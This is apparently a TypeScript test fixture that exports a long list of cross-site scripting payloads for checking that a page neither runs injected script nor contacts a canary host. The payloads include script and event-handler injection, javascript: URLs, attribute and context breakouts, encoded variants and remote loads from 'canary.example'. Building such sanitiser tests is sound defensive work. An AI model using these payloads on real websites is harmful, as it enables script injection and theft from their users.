/** Where no request must ever go, and what no page must ever hold. */
export const CANARY = 'canary.example'

const RUN = 'window.ran=1'
const AWAY = `//${CANARY}/x`

/** Ways to make a page run or fetch what stands in a field: markup, attributes, addresses, encodings, tricks of parsers. */
export const hostileMarkup: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${AWAY}.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script >`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}//`,
  `<img src="${AWAY}.png">`,
  `<img srcset="${AWAY}.png 2x">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="${AWAY}.svg#x"/></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<body onload=${RUN}>`,
  `<body background="${AWAY}.png">`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<object data="${AWAY}.swf"></object>`,
  `<embed src="${AWAY}.swf">`,
  `<video src="${AWAY}.mp4" onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<p style="animation:x" onanimationstart=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="jAvAsCrIpT:${RUN}">x</a>`,
  `<a href="java&#x0A;script:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<form action="${AWAY}"><button autofocus>x</button></form>`,
  `<button formaction="${AWAY}">x</button>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<link rel="stylesheet" href="${AWAY}.css">`,
  `<link rel="prefetch" href="${AWAY}">`,
  `<style>@import "${AWAY}.css";</style>`,
  `<style>*{background:url(${AWAY}.png)}</style>`,
  `<p style="background:url(${AWAY}.png)">x</p>`,
  `</style><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</noscript><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `--!><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  `\` onfocus=${RUN} autofocus`,
  `x onfocus=${RUN} autofocus=`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `<\u0130mg src=x onerror=${RUN}>`,
  `<scr\u00ADipt>${RUN}</scr\u00ADipt>`,
  `\u202E<script>${RUN}</script>\u202C`,
  `{{constructor.constructor('${RUN}')()}}`.replaceAll('{{', '{ {'),
  ['$', `{${RUN}}`].join(''),
  `<%= ${RUN} %>`,
  `javascript:${RUN}//`,
  `data:text/html,<script>parent.ran=1</script>`,
  `;background:url(${AWAY}.png);`,
  `}*{background:url(${AWAY}.png)}`,
  `</p><template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
]

/** What would swallow all that stands behind it: each is the last of its kind. */
const SWALLOWING = ['<!--', '<textarea>', '<title>', '<plaintext>', '<style>', '<script>']

/** The same in lots, since a field of a page holds more than one; what swallows stands at the end of a lot. */
export function hostileLots(count: number): readonly string[] {
  const size = Math.ceil(hostileMarkup.length / count)
  return Array.from({ length: count }, (_, lot) => {
    const part = hostileMarkup.slice(lot * size, (lot + 1) * size)
    return [...part, SWALLOWING[lot % SWALLOWING.length]].join(' ')
  })
}
